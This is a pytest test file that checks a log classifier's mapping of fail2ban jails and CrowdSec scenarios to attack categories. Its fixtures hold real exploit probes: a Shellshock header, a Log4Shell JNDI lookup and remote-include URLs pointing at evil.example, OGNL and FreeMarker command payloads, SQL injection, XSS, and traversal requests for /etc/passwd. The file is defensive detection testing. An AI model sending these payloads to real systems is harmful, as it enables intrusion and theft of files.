"""docs/from-other-tools.md says what takes the place of each jail of fail2ban and each scenario of CrowdSec: what they look for is classified
as it says, and each category that it promises has a sample.
"""
import json
import re
import subprocess

import pytest

import check_samples as samples

ERRWATCH = samples.program()
pytestmark = pytest.mark.skipif(ERRWATCH is None, reason="no errwatch: build it, or set ERRWATCH")
TABLES = (samples.REPO / "docs/from-other-tools.md").read_text()
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0"


def categories():
    tables = subprocess.run([ERRWATCH, "--tables"], capture_output=True, check=True).stdout if ERRWATCH else '{"categories": []}'
    return {row["name"] for row in json.loads(tables)["categories"]}


CATEGORIES = categories()
NOTHING = "nothing"


def asked(target, status=404, agent=BROWSER, method="GET", **more):
    uri, _, args = target.partition("?")
    return {"method": method, "uri": uri, "args": args, "status": status, "headers": {"User-Agent": agent}, **more}


def sent(target, status, body=""):
    return asked(target, status, "python-requests/2.31", "POST", **({"body": body} if body else {}))


def logged(message, module="core", level="error"):
    return {"message": message, "module": module, "level": level}


SHELLSHOCK = "() { :;}; /bin/bash -c 'id'"
OGNL = "/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/"
FREEMARKER = "/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7B%22freemarker.template.utility.Execute%22%3Fnew%28%29%28%22id%22%29%7D"
ALERT = "ALERT - tried to register forbidden variable '_SERVER' through GET variables (attacker '198.51.100.7', file '/srv/www/index.php')"

# (jail or scenario, category, what it looks for)
LOOKED_FOR = [
    ("apache-auth", "auth_failure", logged('AH01617: user a: authentication failure for "/p/": Password Mismatch', "auth_basic")),
    ("apache-auth", "auth_failure", logged("AH01618: user b not found: /p/", "auth_basic")),
    ("apache-auth", "auth_failure", logged("AH01794: user a: password mismatch: /d", "auth_digest")),
    ("apache-auth", "unauthorized_access", logged("AH01630: client denied by server configuration: /srv/www/private", "authz_core")),
    ("apache-badbots", "bot_proxy", asked("/", 200, "EmailCollector/1.0")),
    ("apache-botsearch", "vuln_scan", asked("/phpmyadmin/index.php")),
    ("apache-botsearch", "vuln_scan", asked("/roundcube/")),
    ("apache-botsearch", "vuln_scan", logged("AH01264: script not found or unable to stat: /usr/lib/cgi-bin/php", "cgi")),
    ("apache-modsecurity", "waf_alert", logged('ModSecurity: Access denied with code 403 (phase 2). Pattern match "x" at ARGS:a. [file "/x"] '
                                              '[line "1"] [id "942100"] [msg "SQLi"] [severity "CRITICAL"]', "security2")),
    ("apache-nohome", "vuln_scan", asked("/~root")),
    ("apache-noscript", "vuln_scan", logged("script '/srv/www/admin.php' not found or unable to stat", "php")),
    ("apache-overflows", "bad_method", logged("AH00135: Invalid method in request \\x16\\x03\\x01")),
    ("apache-overflows", "bad_request", logged("AH00566: request failed: malformed request line")),
    ("apache-overflows", "path_traversal", logged("AH00126: Invalid URI in request GET /../../ HTTP/1.1")),
    ("apache-overflows", "resource_exhaustion", logged("AH00565: request failed: URI too long (longer than 8190)")),
    ("apache-shellshock", "code_injection", asked("/cgi-bin/status", 200, SHELLSHOCK)),
    ("apache-shellshock", "code_injection", logged("AH01215: /bin/bash: warning: HTTP_USER_AGENT: ignoring function definition attempt", "cgi")),
    ("php-url-fopen", "code_injection", asked("/index.php?page=http://evil.example/shell.txt?", 200)),
    ("php-url-fopen", "code_injection", asked("/index.php?inc=http://evil.example/a", 200)),
    ("php-url-fopen", NOTHING, asked("/out?to=http://www.example.net/page.html", 200)),
    ("suhosin", "waf_alert", logged(ALERT, "php7")),
    ("drupal-auth", "auth_failure", sent("/user/login", 200)),
    ("http-crawl-non_statics", "vuln_scan", asked("/old-page.html")),
    ("http-crawl-non_statics", NOTHING, asked("/page.html", 200)),
    ("http-probing", "vuln_scan", asked("/secret.php")),
    ("http-bad-user-agent", "vuln_scan", asked("/", 200, "sqlmap/1.7.2#stable (https://sqlmap.org)")),
    ("http-bad-user-agent", "vuln_scan", asked("/", 200, "masscan/1.3")),
    ("http-bad-user-agent", "bot_proxy", asked("/", 200, "EmailSiphon")),
    ("http-bad-user-agent", NOTHING, asked("/", 200, "Wget/1.21")),
    ("http-bad-user-agent", NOTHING, asked("/", 200, "HTTrack")),
    ("http-path-traversal-probing", "path_traversal", asked("/download?file=../../../../etc/passwd", 200)),
    ("http-cve-2021-41773", "path_traversal", asked("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", 400)),
    ("http-cve-2021-42013", "path_traversal", asked("/cgi-bin/.%%32%65/.%%32%65/.%%32%65/etc/passwd", 400)),
    ("http-sensitive-files", "info_leak", asked("/.env")),
    ("http-sensitive-files", "info_leak", asked("/.htpasswd", 403)),
    ("http-sensitive-files", "info_leak", asked("/.git/config", 200)),
    ("http-sqli-probing", "sql_injection", asked("/item?id=1%27%20UNION%20SELECT%201,2,3--", 200)),
    ("http-xss-probing", "xss", asked("/s?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", 200)),
    ("http-backdoors-attempts", "malware_upload", asked("/c99.php")),
    ("http-backdoors-attempts", "vuln_scan", asked("/c99.php")),
    ("http-w00tw00t", "vuln_scan", asked("/w00tw00t.at.blackhats.romanian.anti-sec:)")),
    ("http-w00tw00t", "bad_request", asked("/w00tw00t.at.ISC.SANS.DFind:)", 400)),
    ("http-generic-bf", "auth_failure", sent("/login", 401)),
    ("http-generic-bf", "auth_failure", sent("/api/login", 403)),
    ("http-generic-bf", "auth_failure", sent("/members/enter", 403, "user=a&password=b")),
    ("http-open-proxy", "bot_proxy", asked("http://www.example.net/")),
    ("http-open-proxy", "bot_proxy", asked("www.example.net:443", 405, method="CONNECT")),
    ("http-bf-wordpress_bf", "auth_failure", sent("/wp-login.php", 200)),
    ("http-bf-wordpress_bf_xmlrpc", "auth_failure", sent("/xmlrpc.php", 200)),
    ("http-magento-bf", NOTHING, sent("/customer/account/loginPost/", 302)),
    ("http-magento-bf", "auth_failure", sent("/rest/V1/integration/customer/token", 401, '{"username": "a", "password": "b"}')),
    ("http-wordpress_user-enum", NOTHING, asked("/?author=1", 200)),
    ("http-wordpress_user-enum", NOTHING, asked("/?author=1", 301)),
    ("http-wordpress_user-enum", "vuln_scan", asked("/?author=1")),
    ("http-wordpress_wpconfig", "info_leak", asked("/wp-config.php.bak")),
    ("apache_log4j2_cve-2021-44228", "code_injection", asked("/", 200, "${jndi:ldap://evil.example/a}")),
    ("spring4shell_cve-2022-22965", "code_injection", asked("/x?class.module.classLoader.DefaultAssertionStatus=nonsense", 400)),
    ("thinkphp-cve-2018-20062", "code_injection", asked("/index.php?s=/Index/\\think\\app/invokefunction&function=phpinfo&vars[0]=1")),
    ("CVE-2022-26134", "code_injection", asked(OGNL)),
    ("CVE-2022-42889", "code_injection", asked("/?q=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime%28%29%7D", 200)),
    ("vmware-cve-2022-22954", "code_injection", asked(FREEMARKER)),
    ("grafana-cve-2021-43798", "path_traversal", asked("/public/plugins/alertlist/../../../../../conf/defaults.ini")),
    ("fortinet-cve-2018-13379", "path_traversal", asked("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession")),
    ("pulse-secure-sslvpn-cve-2019-11510", "path_traversal", asked("/dana-na/../dana/html5acc/guacamole/../../../../etc/passwd?/dana/")),
    ("f5-big-ip-cve-2020-5902", "path_traversal", asked("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd")),
    ("jira_cve-2021-26086", "path_traversal", asked("/s/cfx/_/;/WEB-INF/web.xml")),
    ("vmware-vcenter-vmsa-2021-0027", "path_traversal", asked("/ui/vcav-bootstrap/rest/vcav-providers/provider-logo?url=file:///etc/passwd")),
    ("vmware-vcenter-vmsa-2021-0027", "vuln_scan", asked("/ui/vcav-bootstrap/rest/vcav-providers/provider-logo")),
    ("CVE-2022-37042", "vuln_scan", sent("/service/extension/backup/mboximport?account-name=admin&ow=2", 404)),
]


def row_of(name):
    """What a row of the tables says in its last column of a jail or scenario."""
    rows = [line for line in TABLES.splitlines() if line.startswith("|") and f"`{name}`" in line.split(" | ")[0]]
    assert len(rows) == 1, f"{name}: {rows}"
    return rows[0].split(" | ")[-1]


def test_they_are_classified_as_the_tables_say():
    entries = [{"time": "2026-11-22T10:00:00.000Z", "client": "198.51.100.7", **entry} for _, _, entry in LOOKED_FOR]
    wrong = []
    for (name, category, entry), result in zip(LOOKED_FOR, samples.classify_entries(ERRWATCH, entries), strict=True):
        found = {result["category"], *result["also"]} if result["cost"] else {NOTHING}
        if category not in found:
            wrong.append((name, category, entry, sorted(found)))
    assert wrong == []


@pytest.mark.parametrize("name", sorted({name for name, *_ in LOOKED_FOR}))
def test_the_tables_name_these_categories_and_no_others(name):
    named = {word for word in re.findall(r"`(\w+)`", row_of(name)) if word in CATEGORIES}
    beside = {other for other, *_ in LOOKED_FOR if row_of(other) == row_of(name)}
    assert named == {category for other, category, _ in LOOKED_FOR if other in beside} - {NOTHING}


def test_no_row_promises_a_category_without_a_sample():
    known = {name for name, *_ in LOOKED_FOR}
    jails = re.findall(r"^\| jail \|.*?(?=^\n)|^\| collection or scenario \|.*?(?=^\n)", TABLES, re.S | re.M)
    assert len(jails) == 2
    for row in "".join(jails).splitlines():
        names = set(re.findall(r"`([^`]+)`", row.split(" | ")[0]))
        promised = {word for word in re.findall(r"`(\w+)`", row.split(" | ")[-1]) if word in CATEGORIES}
        assert not promised or names & known, row
